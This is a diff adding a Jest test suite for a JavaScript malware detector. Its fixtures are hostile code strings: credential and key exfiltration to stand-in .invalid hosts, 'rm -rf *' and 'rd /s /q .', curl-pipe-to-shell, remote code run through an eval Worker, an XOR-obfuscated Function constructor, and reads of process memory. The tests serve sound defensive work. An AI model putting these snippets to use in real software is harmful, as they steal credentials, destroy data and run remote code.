@@ -1,0 +1,79 @@
+import { describe, expect, it } from '@jest/globals';
+import { readScript } from '../../../src/code/js/script.ts';
+
+function found(source: string, kind: string): readonly string[] {
+  return readScript(source, { module: false, parses: true })
+    .spotted.filter((one) => one.kind === kind)
+    .map(({ detail }) => detail);
+}
+
+describe('a value is followed through what holds it', () => {
+  it('through a queue of the file and a local function', () => {
+    const source = `
+      const queue = [];
+      function put(data) { queue.push(Array.from(data, (x) => x.toString(16)).join('')); flush(); }
+      async function flush() { const item = queue.shift(); const part = (a, b) => item.slice(a, b); await fetch('https://pool.invalid/', { headers: { 'x-id': part(0, 32) } }); }
+      exports.from = (secretKey) => { put(secretKey); };`;
+    expect(found(source, 'exfiltration')).toEqual(['key material to pool.invalid']);
+  });
+
+  it('through members of an object', () => {
+    const source = `
+      const fs = require('fs'), os = require('os'), out = {};
+      for (const name of ['.npmrc', '.netrc']) out[name] = fs.readFileSync(os.homedir() + '/' + name, 'utf8');
+      fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(out) });`;
+    expect(found(source, 'exfiltration')[0]).toMatch(/credentials.* to drop\.invalid/);
+  });
+
+  it('but one variable of the environment is not the environment', () => {
+    const source = `const get = (name) => process.env[name]; fetch('https://api.invalid/' + get('STAGE'));`;
+    expect(found(source, 'exfiltration')).toEqual([]);
+  });
+});
+
+describe('what a program may be is all it may be', () => {
+  it('of both branches', () => {
+    const source = `const { exec } = require('child_process'); exec(process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *');`;
+    expect(found(source, 'destructive')).toEqual(['rd /s /q .', 'rm -rf *']);
+  });
+
+  it('of all rows of a table', () => {
+    const source = `const read = { darwin: 'pbpaste', linux: 'xclip -o' }[process.platform]; require('child_process').exec(read);`;
+    expect(found(source, 'clipboard')).toEqual(['pbpaste', 'xclip']);
+  });
+
+  it('of all a name is given', () => {
+    const source = `let line; if (process.platform === 'darwin') line = 'curl https://a.invalid/x | sh'; else line = 'id'; require('child_process').execSync(line);`;
+    expect(found(source, 'download-execute')).toHaveLength(1);
+  });
+});
+
+describe('what runs text as code', () => {
+  it('a worker of text', () => {
+    const source = `const { Worker } = require('worker_threads'); fetch('https://a.invalid').then((r) => r.text()).then((code) => new Worker(code, { eval: true }));`;
+    expect(found(source, 'remote-code')).toHaveLength(1);
+  });
+
+  it('the constructor that all functions have', () => {
+    const data = JSON.stringify([...'require("fs")'].map((char) => char.charCodeAt(0) ^ 7));
+    const source = `const s = ${data}.map((n) => String.fromCharCode(n ^ 7)).join(''); new (Object.getPrototypeOf(function () {}).constructor)('r', s)(require);`;
+    expect(found(source, 'decode-execute').length).toBeGreaterThan(0);
+  });
+
+  it('a script of another language given to its program', () => {
+    const source = `require('child_process').execFile('sudo', ['python3', '-c', "open('/proc/' + pid + '/mem', 'rb')"]);`;
+    expect(found(source, 'credential-file')).toEqual(['memory of other processes']);
+  });
+});
+
+it('a file that is written through a variable, and started, in what TypeScript makes of imports', () => {
+  const source = `
+    var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
+    const fs_1 = __importDefault(require("fs")), https_1 = __importDefault(require("https")), child_process_1 = require("child_process");
+    function ensure(target) { const out = fs_1.default.createWriteStream(target); https_1.default.get("https://files.invalid/x", (res) => { res.pipe(out); out.on("finish", () => (0, child_process_1.spawn)(target, [])); }); }`;
+  expect(found(source, 'download-execute').length).toBeGreaterThan(0);
+});
+
+it('which platform it is says only which program fits', () => {
+  expect(found(`const os = require('os'); fetch('https://bin.invalid/' + os.platform() + os.arch());`, 'exfiltration')).toEqual([]);
+});
